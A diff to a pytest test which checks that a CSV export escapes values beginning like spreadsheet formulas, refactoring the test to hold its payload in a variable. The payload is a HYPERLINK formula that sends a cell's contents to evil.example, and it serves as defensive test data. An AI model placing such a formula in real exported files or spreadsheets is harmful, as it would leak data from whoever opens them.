@@ -405,9 +405,10 @@ async def test_a_member_value_that_begins_as_a_formula_is_exported_as_text(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     # Given a member whose name and evidence begin as formulas would
-    rows = [
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    rows: list[dict[str, Any]] = [
         {
-            "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+            "name": formula,
             "country": "DE",
             "region": "Europe",
             "kind": "CITY",
@@ -426,7 +427,7 @@ async def test_a_member_value_that_begins_as_a_formula_is_exported_as_text(
     # Then those cells begin with a quote (a negative number stays a number),
     exported = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
     [row] = [row for row in exported if "evil.example" in row["name"]]
-    assert row["name"] == "'" + rows[0]["name"]
+    assert row["name"] == "'" + formula
     assert (row["evidence"], row["longitude"]) == ("'+1 in a list", "-58.38")
     # and the file imports back unchanged
     assert await _metrohub("import", "members", str(path)) == 0
